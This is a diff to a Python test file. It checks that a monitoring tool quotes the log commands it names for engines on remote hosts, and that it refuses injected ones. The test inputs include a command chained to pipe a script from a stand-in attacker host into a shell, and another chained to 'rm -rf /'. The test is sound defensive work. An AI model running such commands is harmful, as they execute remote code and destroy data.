@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import select
+import shlex
 import socket
 import subprocess
 import sys
@@ -171,6 +172,13 @@ def test_logs_of_other_hosts_and_of_recordings_are_named_by_a_command() -> None:
     assert host.engine_log(shots.engine()) == (
         "the log of vllm:8000 is on another host: ssh -t 'gpu 07' gpumon, then its log there"
     )
+    spaced = replace(down, departure=(replace(ended[0], log="tail -n 100 /var/log/my 'v.log"),))
+    words = str(host.engine_log(spaced)).partition(": ")[2]
+    assert shlex.split(shlex.split(words)[2]) == ["tail", "-n", "100", "/var/log/my 'v.log"]
+    for attack in ("journalctl -u x -n 100; curl -s http://evil.example|sh", "kubectl logs x; rm -rf /", "true"):
+        lied = replace(down, departure=(replace(ended[0], log=attack),))
+        assert host.engine_log(lied) == host.engine_log(shots.engine())
+        assert object.__new__(Replay).engine_log(lied) == "a recording holds no log of vllm:8000"
     host._name = f"{socket.gethostname()}.example.org"
     assert not isinstance(host.engine_log(down), str)
     replay = object.__new__(Replay)
